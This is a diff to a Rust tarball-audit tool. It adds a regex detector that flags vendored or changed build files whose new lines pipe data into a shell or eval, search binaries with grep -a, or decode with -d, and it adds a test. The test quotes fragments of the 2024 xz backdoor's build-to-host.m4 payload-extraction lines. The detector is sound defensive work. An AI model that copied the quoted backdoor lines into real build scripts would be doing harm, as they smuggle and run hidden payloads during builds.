@@ -20,6 +20,11 @@
 //! - `unexplained` (warning): only in the tarball and none of the above;
 //! - `only_in_reference` (info): in the tag but not in the tarball (export-ignore, …).
 //!
+//! Whatever its class, a vendored file whose lines that no known copy has (or a changed
+//! file whose lines that the tag does not have) run data through a shell or decode it — a
+//! pipe into `$SHELL`/`sh`/`eval`, `grep -a`, a decompressor with `-d`, as the 2024 xz
+//! backdoor's `build-to-host.m4` did under a made-up "serial 30" — is `critical`.
+//!
 //! Cost: the tarball is decompressed once; each member's content is hashed and kept only
 //! when it differs from the reference, which is streamed from git on another thread at the
 //! same time.
@@ -507,6 +512,33 @@ fn classify_extra(
         None,
         None,
     )
+}
+
+/// Lines of `content` (not in `known`: the closest upstream copy, or the tag's file) that
+/// run data through a shell or decode it the way the 2024 xz backdoor's macro did: a pipe
+/// into `$SHELL`/`sh`/`eval`, `grep -a` (binary files searched as text), or a decompressor
+/// or decoder run with `-d`. No macro or helper script of gnulib's history (27,572
+/// versions), gettext, libtool or automake contains one, so any is a critical finding.
+fn runs_data_through_a_shell(content: &[u8], known: Option<&[u8]>) -> Vec<String> {
+    static PATTERN: OnceLock<regex::bytes::Regex> = OnceLock::new();
+    let pattern = PATTERN.get_or_init(|| {
+        regex::bytes::Regex::new(concat!(
+            r"\|\s*(?:\$\{?(?:CONFIG_)?SHELL\}?|(?:/bin/)?(?:ba|da|k|z)?sh|eval)",
+            r"(?:\s*$|\s+[^|\s]|\s*[;)\]`&])",
+            r"|\bgrep\s+-[A-Za-z]*a",
+            r"|\b(?:xz|unxz|xzcat|lzma|unlzma|gzip|gunzip|zcat|bzip2|bunzip2|base64|uudecode)\s+(?:-[A-Za-z]*d[A-Za-z]*|--decompress|--decode)\b",
+        ))
+        .expect("static regex")
+    });
+    let known_lines: BTreeSet<&[u8]> = known
+        .map(|k| k.split(|&b| b == b'\n').collect())
+        .unwrap_or_default();
+    content
+        .split(|&b| b == b'\n')
+        .filter(|l| pattern.is_match(l) && !known_lines.contains(l))
+        .take(MAX_LISTED)
+        .map(|l| String::from_utf8_lossy(l).trim().to_string())
+        .collect()
 }
 
 /// Whether a diff against a known copy adds no code: every added line is a removed line
@@ -1040,6 +1072,38 @@ pub fn audit_tarball_with(
             }
         };
         let mut severity = class.severity();
+        let mut detail = detail;
+        // Vendored files against their closest known copy, changed files against the tag.
+        let vendored = matches!(
+            class,
+            Class::VendoredModified
+                | Class::VendoredVariant
+                | Class::VendoredNewer
+                | Class::VendoredUnknown
+        );
+        if complete && (vendored || (class == Class::Differs && tag_contents.contains_key(&path))) {
+            let compared = if vendored {
+                known.as_ref().and_then(|k| corpus.blob(&k.sha256))
+            } else {
+                tag_contents.get(&path).map(Vec::as_slice)
+            };
+            let alarming = runs_data_through_a_shell(content, compared);
+            if let Some(first) = alarming.first() {
+                severity = Severity::Critical;
+                detail = format!(
+                    "{detail}; CRITICAL: {} line{} that {} run{} data through a shell or decode{} it, as the 2024 xz backdoor's macro did: {first}",
+                    alarming.len(),
+                    if alarming.len() == 1 { "" } else { "s" },
+                    if vendored {
+                        "no known copy has"
+                    } else {
+                        "the tag does not have"
+                    },
+                    if alarming.len() == 1 { "s" } else { "" },
+                    if alarming.len() == 1 { "s" } else { "" },
+                );
+            }
+        }
         let regenerated = regenerated_files.remove(&path);
         if regenerated
             .as_ref()
@@ -1181,6 +1245,34 @@ mod tests {
         let mut long = diff(&[], &["x"]);
         long.removed = 500;
         assert!(!adds_no_code(&long));
+    }
+
+    #[test]
+    fn lines_that_run_data_through_a_shell_are_found() {
+        // The 2024 backdoor's build-to-host.m4 additions (as published in its analyses).
+        let attack = concat!(
+            "  gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\n",
+            "  gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n",
+            "  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt=\"eval \\$gl_[$1]_config\"])\n",
+            "  payload=`xz -dc $srcdir/tests/files/good.xz`\n",
+        );
+        assert_eq!(runs_data_through_a_shell(attack.as_bytes(), None).len(), 4);
+        // Ordinary macro lines: a case pattern naming the sh CPU, tests, tr, gzip -9.
+        let ordinary = concat!(
+            "       | sh | sh[1234] | sh[1234]e[lb] \\\n",
+            "  if test -d \"$dir\"; then :; fi\n",
+            "  case `echo r | tr -d '\\r'` in\n",
+            "  gzip -9 -c file > file.gz\n",
+            "  eval ac_val=\\$$ac_var\n",
+        );
+        assert!(runs_data_through_a_shell(ordinary.as_bytes(), None).is_empty());
+        // A line the known copy already has is not reported.
+        let line = "x | $SHELL\n";
+        assert!(runs_data_through_a_shell(line.as_bytes(), Some(line.as_bytes())).is_empty());
+        assert_eq!(
+            runs_data_through_a_shell(line.as_bytes(), None),
+            ["x | $SHELL"]
+        );
     }
 
     #[test]
